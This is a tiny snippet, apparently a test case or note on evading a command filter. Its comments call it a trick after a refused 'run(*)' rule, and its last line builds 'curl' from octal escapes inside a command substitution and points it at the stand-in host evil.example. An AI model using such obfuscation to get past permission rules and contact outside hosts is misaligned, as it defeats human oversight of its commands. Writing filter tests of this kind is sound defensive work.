# Trick: the program is printed by a substitution.
# Refused: run(*)
$(printf '\143\165\162\154') http://evil.example/
